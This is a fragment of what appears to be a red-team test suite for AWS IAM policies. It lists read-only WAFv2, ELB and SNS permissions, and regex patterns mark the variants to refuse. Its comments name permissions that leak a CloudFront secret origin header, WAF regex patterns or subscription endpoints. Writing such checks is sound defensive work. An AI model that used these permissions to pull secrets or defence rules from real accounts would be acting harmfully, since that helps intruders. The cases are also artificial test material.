    // rule group's statements (GetRuleGroup) still refused beside them.
    ops("prod", "rt75s-waf-summaries", "wafv2:ListRegexPatternSets, ListManagedRuleSets", [
        allow(["wafv2:ListRegexPatternSets", "wafv2:ListManagedRuleSets"], "*"),
    ]),
    ops(
        "prod",
        "rt75s-waf-rulegroup",
        "wafv2:ListRuleGroups, GetRuleGroup (its statements)",
        [allow(["wafv2:ListRuleGroups", "wafv2:GetRuleGroup"], "*")],
        /wafv2:GetRuleGroup|rt75s-waf-rulegroup/,
    ),
    // WAFV2 API Reference, GetSampledRequests: SampledHTTPRequest.Request (HTTPRequest.Headers: every header's Name
    // and Value), so CloudFront's secret origin header value reaches the caller as GetWebACL's SearchString does.
    ops(
        "prod",
        "rt75s-waf-sampled",
        "wafv2:ListWebACLs, GetSampledRequests (request headers)",
        [allow(["wafv2:ListWebACLs", "wafv2:GetSampledRequests"], "*")],
        /wafv2:GetSampledRequests|rt75s-waf-sampled/,
    ),
    // WAFV2 API Reference, GetRegexPatternSet: RegexPatternSet.RegularExpressionList (the patterns themselves).
    ops(
        "prod",
        "rt75s-waf-regex",
        "wafv2:GetRegexPatternSet (the patterns a rule matches)",
        [allow(["wafv2:ListWebACLs", "wafv2:GetRegexPatternSet"], "*")],
        /wafv2:GetRegexPatternSet|rt75s-waf-regex/,
    ),
    // ELB API Reference (v2): DescribeTargetHealth, DescribeLoadBalancerAttributes, DescribeTargetGroupAttributes.
    ops(
        "prod",
        "rt75s-elb-oncall",
        "elasticloadbalancing:DescribeLoadBalancers, TargetGroups, TargetHealth, Listeners",
        [
            allow(
                [
                    "elasticloadbalancing:DescribeLoadBalancers",
                    "elasticloadbalancing:DescribeTargetGroups",
                    "elasticloadbalancing:DescribeTargetHealth",
                    "elasticloadbalancing:DescribeListeners",
                ],
                "*",
            ),
        ],
    ),
    ops(
        "prod",
        "rt75s-elb-rules",
        "the ELB on-call role with DescribeRules",
        [allow(["elasticloadbalancing:DescribeLoadBalancers", "elasticloadbalancing:DescribeRules"], "*")],
        /elasticloadbalancing:DescribeRules|rt75s-elb-rules/,
    ),
    // SNS API Reference, ListSubscriptionsByTopic: Subscription {SubscriptionArn, Owner, Protocol, Endpoint, TopicArn}.
    ops("trust-domain", "rt75s-sns-audit", "sns:ListTopics, GetTopicAttributes, ListSubscriptionsByTopic", [
        allow(["sns:ListTopics", "sns:GetTopicAttributes", "sns:ListSubscriptionsByTopic"], "*"),
    ]),
    ops(
        "trust-domain",
        "rt75s-sns-subattrs",
        "the SNS audit role with GetSubscriptionAttributes",
        [allow(["sns:ListTopics", "sns:GetSubscriptionAttributes"], "*")],
        /sns:GetSubscriptionAttributes|rt75s-sns-subattrs/,
    ),
];

describeVariants(
    "red team 75: secure variants of the committed stacks and their insecure twins",
    CASES.filter(c => c.refused),
    CASES.filter(c => !c.refused),
);
